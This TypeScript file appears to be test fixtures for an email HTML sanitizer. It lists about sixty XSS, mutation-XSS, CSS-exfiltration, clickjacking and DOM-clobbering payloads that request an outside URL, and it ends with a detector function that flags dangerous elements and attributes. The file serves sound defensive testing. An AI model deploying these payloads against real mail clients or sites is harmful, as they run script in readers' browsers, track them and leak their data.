/** Something that a letter may try. */
export interface Attack {
  readonly name: string;
  /**
   * The content of the letter; whatever it manages to run or load requests an address below `url`, which is
   * another host.
   */
  readonly html: (url: string) => string;
  /**
   * Shown unchanged, on a page without a policy, it reaches the other host without an act of the reader,
   * which proves the attack.
   */
  readonly works: boolean;
  /** It targets the own server, from which the frame may load pictures: only the cleaning protects against it. */
  readonly isOwn?: true;
}

const works = (name: string, html: (url: string) => string): Attack => ({ name, html, works: true });
/** It waits for a click, or targets older browsers or the cleaning itself. */
const lurks = (name: string, html: (url: string) => string): Attack => ({ name, html, works: false });
/** A missing picture, whose error handler runs the attack. */
const broken = (url: string) => `<img src=x onerror="fetch('${url}')">`;

/** Attacks on the reader of a letter: both the cleaning and the page with real letters are tested with them. */
export const attacks: readonly Attack[] = [
  // Scripts and handlers.
  works('script', (url) => `<script>fetch('${url}')</script>`),
  works('handler-of-a-picture', broken),
  works('handler-in-odd-letters', (url) => `<IMG/SRC="x"/oNeRrOr=fetch('${url}')>`),
  works(
    'handler-in-entities',
    (url) => `<img src=x onerror="&#102;&#101;tch&lpar;&apos;${url}&apos;&rpar;">`,
  ),
  works('handler-of-details', (url) => `<details open ontoggle="fetch('${url}')">x</details>`),
  works('handler-of-focus', (url) => `<input autofocus onfocus="fetch('${url}')">`),
  works('handler-of-a-source', (url) => `<video><source onerror="fetch('${url}')"></video>`),
  works('handler-of-the-body', (url) => `<body onload="fetch('${url}')">x`),
  works(
    'handler-of-animation',
    (url) => `<style>@keyframes k{}p{animation:k 1ms}</style><p onanimationstart="fetch('${url}')">x</p>`,
  ),
  lurks(
    'script-with-a-zero',
    (url) => `<scr\0ipt>fetch('${url}')</scr\0ipt><img\u000bsrc=x\u000bonerror=fetch('${url}')>`,
  ),
  // SVG and MathML.
  works('svg-handler', (url) => `<svg onload="fetch('${url}')"></svg>`),
  works('svg-script', (url) => `<svg><script>fetch('${url}')</script></svg>`),
  works('svg-picture', (url) => `<svg width=9 height=9><image href="${url}" width=9 height=9 /></svg>`),
  works('svg-animation', (url) => `<svg><animate onbegin="fetch('${url}')" attributeName=x dur=1s /></svg>`),
  works(
    'svg-foreign-object',
    (url) => `<svg><foreignObject><iframe src="${url}"></iframe></foreignObject></svg>`,
  ),
  works(
    'svg-use',
    (url) => `<svg><use href="${url}#x"/><use href="data:image/svg+xml,<svg id='x'/>#x"/></svg>`,
  ),
  lurks('mathml-link', (url) => `<math><mtext href="javascript:fetch('${url}')">x</mtext></math>`),
  // Sources that change their meaning when they are parsed again.
  works(
    'mutation-by-mathml',
    (url) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=fetch('${url}')&gt;">${broken(url)}`,
  ),
  lurks(
    'mutation-by-forms',
    (url) =>
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=fetch('${url}')>">`,
  ),
  works(
    'mutation-by-noscript',
    (url) => `<noscript><p title="</noscript><img src=x onerror=fetch('${url}')>"></noscript>`,
  ),
  works(
    'mutation-by-a-sheet',
    (url) => `<svg></p><style><a id="</style><img src=x onerror=fetch('${url}')>"></style></svg>`,
  ),
  lurks(
    'mutation-by-a-title',
    (url) => `<b title="<style></b><img src=x onerror=fetch('${url}')>"><xmp></b>`,
  ),
  works('comment-that-ends-at-once', (url) => `<!-->${broken(url)}-->`),
  works(
    'template-of-a-shadow',
    (url) => `<div><template shadowrootmode="open"><img src="${url}"></template></div>`,
  ),
  // Style sheets.
  works('import', (url) => `<style>@import url(${url});</style>`),
  works('import-of-a-string', (url) => `<style>@import "${url}";</style>`),
  works('import-in-escapes', (url) => `<style>@\\69mport "${url}";</style>`),
  works('background-in-a-sheet', (url) => `<style>p{background:url(${url})}</style><p>x</p>`),
  works('background-of-an-element', (url) => `<p style="background:url(${url})">x</p>`),
  works('background-in-escapes', (url) => `<p style="background:u\\72l(${url})">x</p>`),
  works('background-in-entities', (url) => `<p style="background&colon;&#117;rl(${url})">x</p>`),
  works('background-of-a-variable', (url) => `<style>p{--a:url(${url});background:var(--a)}</style><p>x</p>`),
  works('set-of-pictures', (url) => `<p style="background-image:image-set('${url}' 1x)">x</p>`),
  works('picture-of-a-list', (url) => `<style>li{list-style-image:url('${url}')}</style><ul><li>x</li></ul>`),
  works('picture-as-content', (url) => `<style>p::before{content:url("${url}")}</style><p>x</p>`),
  works('font', (url) => `<style>@font-face{font-family:f;src:url(${url})}p{font-family:f}</style><p>x</p>`),
  lurks(
    'sheets-of-old-browsers',
    (url) =>
      `<p style="width:expression(fetch('${url}'));-moz-binding:url(${url}#x);behavior:url(${url})">x</p>`,
  ),
  // Addresses that are loaded automatically.
  works('picture', (url) => `<img src="${url}">`),
  works('picture-without-scheme', (url) => `<img src="${url.replace('http:', '')}">`),
  works('picture-with-backslashes', (url) => `<img src="${url.replace('//', '\\\\')}">`),
  works('pictures-by-density', (url) => `<img srcset="${url} 1x, ${url}?2 2x">`),
  works('picture-of-choices', (url) => `<picture><source srcset="${url}"><img></picture>`),
  works('poster', (url) => `<video poster="${url}"></video><audio src="${url}?audio" autoplay></audio>`),
  works('background-of-a-table', (url) => `<table background="${url}"><tr><td>x</td></tr></table>`),
  works('picture-button', (url) => `<input type=image src="${url}">`),
  works('frame', (url) => `<iframe src="${url}"></iframe>`),
  works('frame-with-a-document', (url) => `<iframe srcdoc="<script>fetch('${url}')</script>"></iframe>`),
  works(
    'frame-with-data',
    (url) => `<iframe src="data:text/html,<script>new Image().src='${url}'</script>"></iframe>`,
  ),
  works('object', (url) => `<object data="${url}"></object><embed src="${url}?embed">`),
  works(
    'sheet-beside',
    (url) => `<link rel=stylesheet href="${url}"><link rel=prefetch href="${url}?prefetch">`,
  ),
  works('base', (url) => `<base href="${url}/" target=_top><img src="x.png"><a href="y">x</a>`),
  works('refresh', (url) => `<meta http-equiv=refresh content="0;url=${url}">`),
  works(
    'form-that-sends-itself',
    (url) => `<form action="${url}"><input name=password autofocus onfocus="this.form.submit()"></form>`,
  ),
  // Attacks that wait for a click.
  lurks('link-to-a-script', (url) => `<a href="javascript:fetch('${url}')">x</a>`),
  lurks(
    'link-to-a-script-in-signs',
    (url) =>
      `<a href=" \u0001jav&#x09;ascript&colon;fetch('${url}')">x</a><a href="JaVaScRiPt:fetch('${url}')">y</a>`,
  ),
  lurks(
    'link-to-a-document',
    (url) =>
      `<a href="data:text/html,<script>fetch('${url}')</script>">x</a><a href="blob:${url}">y</a><a href="vbscript:x">z</a>`,
  ),
  lurks(
    'link-that-reports',
    (url) => `<a href="https://example.com/" ping="${url}" attributionsrc="${url}">x</a>`,
  ),
  lurks(
    'link-into-the-page',
    (url) =>
      `<a href="${url}" target=_top rel=opener>x</a><map name=m><area href="${url}" target=_parent></map>`,
  ),
  lurks(
    'button-of-another-form',
    (url) => `<form id=f></form><button form=f formaction="${url}">x</button><isindex action="${url}">`,
  ),
  // Attacks on the page around the letter.
  lurks(
    'overlay',
    () =>
      '<style>div{position : fixed;inset:0;z-index:2147483647}</style><div style="position:/**/fixed;top:-900px;left:-900px;width:9000px;height:9000px">x</div><p style="POSITION:STICKY;position:ab\\73olute">x</p><p style="--p:fixed;position:var(--p);position:/**//**/*/fixed">x</p>',
  ),
  lurks(
    'names-of-the-document',
    (url) =>
      `<form id=x><input name=attributes><input name=parentNode></form><img name=getElementById><a id=body href="${url}">x</a><img id=documentElement name=documentElement><iframe name=top></iframe>`,
  ),
  works('deep-nesting', (url) => `${'<div>'.repeat(250)}${broken(url)}${'</div>'.repeat(250)}`),
  // Content ids by which a letter refers to its own files.
  lurks(
    'odd-names-of-files',
    (url) =>
      `<img src="cid:javascript:fetch('${url}')"><img src="cid:${url}"><img src="CID:../../own-attack"><a href="cid:page">x</a>`,
  ),
  lurks(
    'picture-that-is-a-document',
    (url) =>
      `<img src="data:text/html,<script>fetch('${url}')</script>"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('${url}')</script><image href='${url}'/></svg>">`,
  ),
  {
    name: 'own-server',
    html: () =>
      '<img src="/api/own-attack"><p style="background:url(/api/own-attack)">x</p><style>p{background:url(/api/own-attack)}</style><img srcset="/api/own-attack 1x">',
    works: false,
    isOwn: true,
  },
];

/**
 * Returns everything in a letter that may run, load or reach the page by itself. Self-contained, as browsers
 * receive its source.
 */
export function findFaults(root: ParentNode): string[] {
  const ELEMENTS =
    'script,form,input,button,select,textarea,iframe,frame,object,embed,link,meta,base,svg,math,video,audio,noscript';
  const HANDLERS =
    /^(?:on.*|srcset|ping|background|action|formaction|poster|srcdoc|xlink:href|shadowrootmode|attributionsrc)$/u;
  const SHEET = /url\s*\(|@import|image-set|expression|binding|position\s*:(?!\s*static)|\\/iu;
  const isFault: Readonly<Record<string, (value: string) => boolean>> = {
    style: (value) => SHEET.test(value),
    href: (value) => !/^(?:https?:|mailto:|tel:|#)/iu.test(value),
    src: (value) => !value.startsWith('data:image/') && !value.startsWith('/files/'),
    target: (value) => value !== '_blank',
    id: (value) => !value.startsWith('letter-'),
    // The page would take the element for a property of the document with this name.
    name: (value) => value in document,
  };
  const nodes = [...root.querySelectorAll('*')];
  const attributes = nodes.flatMap((node) => [...node.attributes]);
  // A way within the letter leaves the frame nowhere.
  const isOpenLink = (node: Element) =>
    !/^#(?:letter-|$)/u.test(node.getAttribute('href') ?? '') &&
    (node.getAttribute('rel') !== 'noopener noreferrer nofollow' || node.getAttribute('target') !== '_blank');
  return [
    ...[...root.querySelectorAll(ELEMENTS)],
    ...[...root.querySelectorAll('style')].filter((node) => SHEET.test(node.textContent ?? '')),
    ...[...root.querySelectorAll('a[href],area[href]')].filter(isOpenLink),
  ]
    .map((node) => node.outerHTML)
    .concat(
      attributes
        .filter(({ name, value }) => HANDLERS.test(name) || isFault[name]?.(value))
        .map(({ name, value }) => `${name}=${value}`),
    )
    .map((fault) => fault.slice(0, 200));
}
